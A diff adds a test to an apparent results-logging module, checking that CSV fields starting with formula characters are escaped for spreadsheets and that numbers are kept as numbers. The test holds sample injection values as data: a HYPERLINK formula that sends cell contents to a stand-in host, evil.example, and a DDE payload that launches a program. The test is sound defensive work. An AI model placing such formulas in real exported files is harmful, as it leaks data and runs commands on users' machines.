@@ -146,3 +146,24 @@ def test_a_results_csv_begun_before_the_warning_column_keeps_its_layout(tmp_path
     fresh = AppendLog(tmp_path / "new.csv", "csv")
     fresh.append(_records(synthetic=True, first_id=1))
     assert fresh.columns() == CSV_COLUMNS and fresh.repair_tail(0) == {f"{i:032x}" for i in (1, 2)}
+
+
+def test_text_that_starts_like_a_formula_is_never_a_live_formula_and_numbers_stay_numbers(
+    tmp_path: Path,
+) -> None:
+    """A file named ``=HYPERLINK(...).png`` (or ``+``, ``-``, ``@``) opened from results.csv in a
+    spreadsheet: shown as text, never run (OWASP: a leading '). results.jsonl keeps the exact name,
+    numbers (a negative one too) are written as numbers, and repair still reads every row's id."""
+    done, failed = _records(synthetic=False, first_id=1)
+    done["original_name"] = '=HYPERLINK("http://evil.example/?"&A1,"open me").png'
+    done["latency_ms"] = -1.5  # not a real latency: a negative number must stay a number
+    failed["original_name"], failed["reason"] = "@SUM(1+1).png", "+cmd|' /C calc'!A0"
+    log = AppendLog(tmp_path / "results.csv", "csv")
+    log.append([done, failed])
+    with open(log.path, newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [row["original_name"] for row in rows] == ["'" + done["original_name"], "'@SUM(1+1).png"]
+    assert rows[1]["reason"] == "'+cmd|' /C calc'!A0"
+    assert rows[0]["latency_ms"] == "-1.5" and rows[0]["probability"] == "0.9"
+    assert rows[0]["moved_to"] == "done/a.png" and rows[0]["model_version"] == "v1"
+    assert log.repair_tail(0) == {f"{i:032x}" for i in (1, 2)}
